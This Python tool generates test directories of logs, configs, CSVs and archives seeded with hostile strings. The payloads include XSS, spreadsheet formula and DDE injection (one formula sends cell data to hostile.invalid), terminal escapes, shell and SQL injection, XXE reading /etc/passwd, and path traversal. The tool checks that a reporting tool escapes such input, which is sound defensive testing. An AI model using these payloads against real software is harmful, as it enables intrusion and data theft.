#!/usr/bin/env python3
"""Run directories full of hostile text: what logs, names and parameter files can hold, and no output may pass on.

    hostile.py DIR [NAME...]   writes them (all payloads, or those of these names or families), prints a line a payload
    hostile.py --list          names, families and payloads

payloads() gives them all, make(dir) writes: runs/ one run a payload, which stands in the run's name, its parameters
(keys and values: of the path, of config.json, of the run log), host, GPU names and uuids, phases, events, the error
text, process names, names of files, a column's name and in lines that are no rows; join.csv (a column of payloads, by
run), columns.csv (payloads as names of columns), runs.tar (runs in an archive, under such names). Scripts in payloads
set window.hostile, addresses lead to hostile.invalid: a page is harmless if the one is never set and the other never
asked for. All of it is the same every time."""
from __future__ import annotations

import io
import sys
import tarfile
from dataclasses import dataclass
from pathlib import Path

LONG = 100_000
NAME_BYTES = 150  # of a payload in a name: there are prefixes, and file systems have a limit
HIT = "window.hostile=1"


@dataclass(frozen=True)
class Payload:
    name: str    # family and number: "html07"
    family: str
    data: bytes

    @property
    def text(self) -> str:
        return self.data.decode("utf-8", "surrogateescape")

    @property
    def file_name(self) -> bytes:
        """As one piece of a path; "" and dots are none."""
        piece = self.data.replace(b"/", b"\xe2\x81\x84").replace(b"\0", b"\\0")[:NAME_BYTES]
        return piece if piece.strip(b".") else b"dots" + piece


def control() -> list:
    out = ["a%cb" % c for c in [*range(1, 32), 127] if c not in (10, 13)]
    out += ["c1 %c x" % c for c in (0x80, 0x84, 0x85, 0x88, 0x8D, 0x90, 0x98, 0x9B, 0x9C, 0x9D, 0x9E, 0x9F)]
    return out + ["a\0b", "\0", "bell\a\a\a", "back\b\b\b\b\bspace", "form\ffeed", "shift \x0e out \x0f"]


def terminal() -> list:
    return ["\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\a", "\x1b]52;c;aG9zdGlsZQ==\a", "\x1b]52;c;?\x1b\\",
            "\x1b]8;;http://hostile.invalid/\x1b\\link\x1b]8;;\x1b\\", "\x1b[1A\x1b[2Ksmilog: ok", "\x1b[6n",
            "\x1b[c", "\x1b[?1049h", "\x1b[?25l", "\x1bc", "\x1b(0lqqk", "\x1bP$qm\x1b\\", "\x1b_G\x1b\\",
            "\x1b[8m hidden", "\x1b[38;2;0;0;0m", "\u009b31m", b"\x9b31m", "\u009d52;c;x\u009c", "\x1b[20t",
            "\x1b[?2004l", "\x1b[3g", "\x1b#8", "\x1b[5i", "end in \x1b", "\r\x1b[Ksmilog: 12 of 12 runs",
            "0m\x1b[0m\x1b[7m"]


def unseen() -> list:
    marks = [0x061C, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2066,
             0x2067, 0x2068, 0x2069, 0xFEFF, 0x2028, 0x2029, 0x180E, 0x00AD, 0xFFF9, 0xFFFB, 0xFFFE, 0xFFFF, 0xE0001,
             0xE0041, 0x2065, 0x206A, 0x206F]
    return ["a%cb" % c for c in marks] + [
        "run\u202egpj.exe", "\u2066\u2066\u2066deep", "l\u0337\u0321\u033ao\u0336\u0316g" + "\u0300" * 60, "\u200b",
        "\ufeff=1+1", "e\u0301 and \u00e9", "\u05d0\u05d1 42 \u0627\u0644", "\u3164", "\U0001F468\u200D\U0001F4BB"]


def sheet() -> list:
    return ["=1+1", "=HYPERLINK(\"http://hostile.invalid/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|'x'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "=\"a\"",
            "=IMPORTXML(\"http://hostile.invalid/\",\"//a\")", "=WEBSERVICE(\"http://hostile.invalid/\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1", ";=1+1", ",=1+1", "\",=1+1", "\uff1d1+1", "\"=1+1\"", " =1+1",
            "{=1+1}", "=", "-", "+", "@", "--1", "-x", "@here", "=A1", "%0A=1", "javascript:" + HIT,
            "internal:'x'!A1", "external:c:\\x.xls", "mailto:a@hostile.invalid", "file:///etc/passwd", "_x000D_",
            "_x0041_x", "[a]:*?/\\", "'name'", "History", "a" * 32, "5/6", "1E5", "00123", "0.1.2"]


def html() -> list:
    return ["<script>%s</script>" % HIT, "</script><script>%s</script>" % HIT, "</ScRiPt ><script>%s//" % HIT,
            "<img src=x onerror=%s>" % HIT, "<img src=http://hostile.invalid/i.png>", "\"><svg onload=%s>" % HIT,
            "'><svg/onload=%s>" % HIT, "<svg><script>%s</script></svg>" % HIT, "<body onload=%s>" % HIT,
            "<iframe src=http://hostile.invalid/></iframe>", "<iframe srcdoc='<script>parent.%s</script>'>" % HIT,
            "<a href=\"javascript:%s\">x</a>" % HIT, "<a href=\"http://hostile.invalid/\">x</a>",
            "<link rel=stylesheet href=http://hostile.invalid/x.css>",
            "<style>@import 'http://hostile.invalid/x.css';</style>",
            "<style>*{background:url(http://hostile.invalid/b)}</style>",
            "<meta http-equiv=refresh content='0;url=http://hostile.invalid/'>",
            "<base href=http://hostile.invalid/>",
            "<form action=http://hostile.invalid/><input autofocus onfocus=%s>" % HIT,
            "<object data=http://hostile.invalid/o></object>", "<embed src=http://hostile.invalid/e>",
            "<video src=http://hostile.invalid/v onerror=%s></video>" % HIT, "<audio src onerror=%s>" % HIT,
            "<details open ontoggle=%s>" % HIT, "<marquee onstart=%s>" % HIT, "<input onfocus=%s autofocus>" % HIT,
            "<math><mi//xlink:href=\"javascript:%s\">" % HIT, "<x onclick=%s>x</x>" % HIT, "<!--<script>", "<!-- -->",
            "--><script>%s</script>" % HIT, "</title><script>%s</script>" % HIT,
            "</textarea><script>%s</script>" % HIT, "</style><script>%s</script>" % HIT,
            "</template><img src onerror=%s>" % HIT, "</td></tr></table><script>%s</script>" % HIT,
            "]]><script>%s</script>" % HIT, "\" onmouseover=%s x=\"" % HIT, "' onmouseover=%s x='" % HIT,
            "` onmouseover=%s" % HIT, "&lt;script&gt;%s&lt;/script&gt;" % HIT, "&#60;script&#62;",
            "&quot; onload=%s" % HIT, "javascript:%s" % HIT, "data:text/html,<script>parent.%s</script>" % HIT,
            "<scr<script>ipt>%s</script>" % HIT, "<script\0>%s</script>" % HIT, "\x3cscript\x3e%s" % HIT,
            "<noscript><p title='</noscript><img src onerror=%s>'>" % HIT, "<plaintext>", "<xmp>", "<b>bold"]


def script() -> list:
    return ["\";%s;//" % HIT, "';%s;//" % HIT, "`;%s;//" % HIT, "${%s}" % HIT, "\\\";%s;//" % HIT, "\\", "\\\\",
            "\\u003cscript>", "\\x3cscript>", "\u2028%s" % HIT, "*/%s/*" % HIT, "};%s;{" % HIT, "]};%s//" % HIT,
            "__proto__", "constructor", "toString", "hasOwnProperty", "prototype",
            "{{constructor.constructor('%s')()}}" % HIT, "<%= 7*7 %>", "#{7*7}", "{0}"]


def markdown() -> list:
    return ["a|b", "||", "a||b|", "|---|---|", "`", "``", "```", "a`b``c", "`<img src=x onerror=%s>`" % HIT, "\\`",
            "\\|", "end\\", "x\\|y", "~~~", "[x](javascript:%s)" % HIT, "[x](http://hostile.invalid/)",
            "![x](http://hostile.invalid/i.png)", "<http://hostile.invalid/>", "http://hostile.invalid/",
            "www.hostile.invalid", "a@hostile.invalid", "[x]: http://hostile.invalid/", "# head", "- item", "1. item",
            "> quote", "---", "***", "**bold**", "_a_", "@team", "#123", "owner/name#1", "&amp;", "&lt;b&gt;",
            "</details>", "<details><summary>x</summary>", "[^1]", "$x$", "$$", ":tada:", "- [ ] todo",
            "| a | b |\n|---|---|\n| 1 | 2 |", "` | `", "`|", "|`", "<br>", "    indented", "\n\n# head"]


def table() -> list:
    return ["a\rb", "a\nb", "a\r\nb", "\n", "\r", "\n\n\n", "a,b", "a;b", "a\tb", "\"", "a\"b", "\"\"", "\",\"",
            "\",\n\"", "\"" * 99, ",,,,,,", "a\"\n,\"b", "'", "''", "trailing ", " leading", "  ", " ", "",
            "x\n2026/07/03 10:00:00.000, 0, 99", "\u00a0"]


def xml() -> list:
    return ["]]>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&a;", "&#x0;", "&#27;",
            "<?xml version='1.0'?>", "<?php echo 1 ?>", "</testcase><testcase name='x'>", "</failure>",
            "\" classname=\"x", "&", "<", ">", "&&lt", "<a/>"]


def command() -> list:
    return ["::error::x", "::error file=a,line=1::x", "::set-output name=a::b", "::set-env name=PATH::x",
            "::stop-commands::t", "::add-mask::a", "::group::g", "::endgroup::", "\n::warning::x", "\r\n::error::x",
            "%0A::error::x", "%25", "%0D%0A", "##[error]x", "##vso[task.x]y", "a,line=2::x", "title=x::y",
            "$(touch hostile)", "`touch hostile`", ";touch hostile", "| touch hostile", "&& touch hostile", "-rf",
            "--output=hostile", "%s%s%n%n", "%999999d", "' OR 1=1 --", "'; DROP TABLE runs; --",
            "\"; DROP TABLE runs; --", "../../etc/passwd", "/etc/passwd", ".", "..", "C:\\x\\y", "CON", "~root", "*",
            "?", "[a-z]"]


def broken() -> list:
    return [b"\xff", b"\xfe\xff", b"\xff\xfea\0", b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf",
            b"\xed\xa0\x80", b"\xed\xb0\x80", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80",
            b"\xfc\x84\x80\x80\x80\x80", b"\xe2\x82", b"\xc3", b"\x80", b"\xbf\xbf", b"gr\xf6\xdfe",
            b"a\xe2\x28\xa1b", b"\xf0\x9f\x92", b"ok \xc3\xa9 not \xc3", b"\x8e<b>", b"\xc2", b"x\xffy\xfez",
            b"\xe2\x80", b"\xed\xa0\xbd\xed\xb2\xa9", b"\xc0\x80", b"\xff" * 50]


def long() -> list:
    return ["A" * LONG, "\u00e9" * (LONG // 2), "=1" * (LONG // 2), "\x1b" * LONG, "<b>" * (LONG // 3),
            "\u0300" * (LONG // 2), "\"" * LONG, "|`" * (LONG // 2), b"\xff" * LONG, "a" * 255, "a" * 256, "a" * 4097,
            "a" * 32767, "a" * 32768, "\U0001F4A9" * 16384, "a " * (LONG // 2), "\\" * 300, "&" * 40000,
            "http://hostile.invalid/" + "x" * 2100]


def words() -> list:
    return ["null", "NaN", "nan", "inf", "-inf", "true", "false", "None", "n/a", "total", "run", "param.run",
            "outside phases", "0x10", "1e999", "99999999999999999999", "-0", "1_0", "\u0661\u0662", "\u6f22\u5b57",
            "\U0001F680", "\u00c5\u00e5 \u00df \u0130i\u0131", "k=v", "a=b/c=d", "x=", "=x", "lr=0.1,seed=3"]


FAMILIES = [control, terminal, unseen, sheet, html, script, markdown, table, xml, command, broken, long, words]


def payloads() -> list[Payload]:
    """All of them, each once, names unique."""
    out, seen = [], set()
    for family in FAMILIES:
        for i, item in enumerate(family()):
            data = item if isinstance(item, bytes) else item.encode("utf-8", "surrogatepass")
            if data not in seen:
                seen.add(data)
                out.append(Payload("%s%02d" % (family.__name__, i), family.__name__, data))
    return out


# ---- the logs

STAMP = "2026/07/03 10:%02d:%02d.000"
ROWS = 24  # a row of each GPU every 30 s: long enough for findings


def json_text(data: bytes) -> bytes:
    """A JSON string of these bytes; what is no UTF-8 stays as it is."""
    out = bytearray(b'"')
    for c in data:
        out += b"\\u%04x" % c if c < 32 or c in b'"\\' else bytes([c])
    return bytes(out + b'"')


def csv_cell(data: bytes) -> bytes:
    """One cell on one line, quoted only where it has to be."""
    data = data.replace(b"\n", b" ").replace(b"\r", b" ")
    return b'"' + data.replace(b'"', b'""') + b'"' if b"," in data or b'"' in data else data


def query(p: Payload, odd: bool) -> bytes:
    short = p.data[:3000]
    head = b"timestamp, index, uuid, name, utilization.gpu [%], memory.used [MiB], memory.total [MiB], power.draw [W]"
    lines = [head + (b", " + csv_cell(short[:200]) if odd else b"")]
    for k in range(ROWS):
        for gpu in range(2):
            stamp = (STAMP % (k * 30 // 60, k * 30 % 60)).encode()
            uuid = csv_cell(short[:200]) if gpu and odd else b"GPU-0000000%d" % gpu
            busy = 90 if gpu == 0 and k > 4 else 0
            row = b"%s, %d, %s, %s, %d, %d, 81559, 120.50" % (stamp, gpu, uuid, csv_cell(short), busy, 4000 + k)
            lines.append(row + (b", " + csv_cell(short[:200]) if odd else b""))
    lines.insert(7, short.replace(b"\n", b" "))
    return b"\n".join(lines) + b"\n"


def run_log(p: Payload, failed: bool) -> bytes:
    t = json_text(p.data)
    at = b'{"ts": "2026-07-03T10:%02d:%02d.000+00:00", "type": '
    lines = [at % (0, 0) + b'"event", "event": "start", "data": {"host": %s, "model": %s, "utc_offset_s": 0}}' % (t, t),
             at % (0, 1) + b'"event", "event": "params", "data": {%s: %s}}' % (t, t),
             at % (3, 0) + b'"phase", "name": %s, "seconds": 170.0, %s: %s}' % (t, t, t),
             at % (9, 0) + b'"phase", "name": "fit", "seconds": 300.0}',
             at % (9, 30) + b'"event", "event": %s, "data": {"text": %s}}' % (t, t)]
    if failed:
        data = b'{"error": %s, "type": %s, "message": %s}}' % (t, t, t)
        lines.append(at % (11, 0) + b'"event", "event": "error", "data": ' + data)
    else:
        lines.append(at % (11, 29) + b'"event", "event": "stop", "data": {"exit_status": 0, "reason": %s}}' % t)
    return b"\n".join(lines) + b"\n"


def processes(p: Payload) -> bytes:
    lines = [b"timestamp, gpu_name, gpu_bus_id, gpu_serial, gpu_uuid, pid, process_name, used_gpu_memory [MiB]"]
    for k in range(4):
        cell = csv_cell(p.data[:3000])
        row = b"2026/07/03 10:0%d:00.000, %s, 00000000:19:00.0, [N/A], GPU-00000000, 7, %s, 400 MiB"
        lines.append(row % (k, cell, cell))
    return b"\n".join(lines) + b"\n"


def cpu() -> bytes:
    rows = ["2026-07-03T10:%02d:00.000+00:00,20.0,70.0" % k for k in range(12)]
    return ("timestamp,usr_pct,idle_pct\n" + "\n".join(rows) + "\n").encode()


def files(p: Payload, i: int) -> dict[bytes, bytes]:
    """The files of its run. Not each has all: what one breaks is not to hide the others."""
    out = {b"hw_metrics.csv": query(p, i % 2 == 1), p.file_name + b".csv": cpu()}
    if i % 5 != 4:
        out[b"run.jsonl"] = run_log(p, i % 3 == 0)
    if i % 2 == 0:
        out[b"config.json"] = b'{"conf": %s, %s: %s}' % ((json_text(p.data[:150]),) * 3)
    else:
        out[b"config.yaml"] = b"conf: " + json_text(p.data[:150]) + b"\n"
    if i % 3 != 1:
        out[b"apps.csv"] = processes(p)
    return out


def write_runs(directory: Path, chosen: list[Payload]) -> list[bytes]:
    names, seen = [], set()
    for i, p in enumerate(chosen):
        name = p.file_name
        if name.lower() in seen:
            name += b" %d" % i
        seen.add(name.lower())
        if i % 4 == 1:
            name += b"/k=" + p.file_name
        names.append(name)
        for file, data in files(p, i).items():
            path = bytes(directory) + b"/" + name + b"/" + file
            Path(path.decode("utf-8", "surrogateescape")).parent.mkdir(parents=True, exist_ok=True)
            with open(path, "wb") as f:
                f.write(data)
    return names


def write_join(directory: Path, chosen: list[Payload], names: list[bytes]) -> None:
    def cell(data: bytes) -> bytes:  # a file that is joined is UTF-8, or not read
        data = data.replace(b"\0", b"").decode("utf-8", "replace").encode()
        return b'"' + data.replace(b'"', b'""') + b'"'

    with open(directory / "join.csv", "wb") as f:
        f.write(b"run,note,number\n")
        for i, (p, name) in enumerate(zip(chosen, names)):
            f.write(b"%s,%s,%d\n" % (cell(name), cell(p.data), i))
    some = [p for p in chosen if p.data.strip() and len(p.data) < 200][::3]
    with open(directory / "columns.csv", "wb") as f:
        f.write(b",".join([b"run"] + [cell(p.name.encode() + p.data) for p in some]) + b"\n")
        for name in names[:40]:
            f.write(b",".join([cell(name)] + [b"%d" % i for i in range(len(some))]) + b"\n")


def write_archive(directory: Path, chosen: list[Payload]) -> None:
    with tarfile.open(directory / "runs.tar", "w", format=tarfile.PAX_FORMAT) as tar:
        for i, p in enumerate(chosen):
            for file, data in files(p, i).items():
                info = tarfile.TarInfo((p.file_name + b"/" + file).decode("utf-8", "surrogateescape"))
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))


def make(directory: Path, chosen: list[Payload] | None = None) -> list[tuple[bytes, Payload]]:
    """Writes all of it; the names of the runs with their payloads."""
    chosen = payloads() if chosen is None else chosen
    directory = Path(directory)
    (directory / "runs").mkdir(parents=True, exist_ok=True)
    names = write_runs(directory / "runs", chosen)
    write_join(directory, chosen, names)
    write_archive(directory, [p for p in chosen if len(p.data) < 500][::5])
    return list(zip(names, chosen))


def main() -> int:
    words = sys.argv[1:]
    if not words or words[0].startswith("-") and words != ["--list"]:
        print(__doc__, file=sys.stderr)
        return 2
    if words == ["--list"]:
        for p in payloads():
            print("%-11s %s" % (p.name, ascii(p.text[:90])))
        return 0
    chosen = [p for p in payloads() if not words[1:] or p.name in words[1:] or p.family in words[1:]]
    for name, p in make(Path(words[0]), chosen):
        print("%-11s %s" % (p.name, ascii(name.decode("utf-8", "surrogateescape"))))
    return 0


if __name__ == "__main__":
    sys.exit(main())
